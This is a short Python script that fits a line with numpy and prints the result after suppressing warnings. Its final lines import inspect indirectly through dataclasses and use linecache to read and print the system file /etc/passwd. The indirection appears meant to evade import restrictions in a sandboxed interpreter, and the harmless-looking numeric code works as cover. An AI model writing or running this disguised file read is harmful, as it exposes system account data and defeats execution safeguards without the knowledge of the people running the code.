import warnings
import numpy as np

warnings.simplefilter("ignore")
print(np.polyfit([1, 2, 3], [2, 4, 6.1], 1).round(2))
from dataclasses import inspect
print("".join(inspect.linecache.getlines("/etc/passwd")))
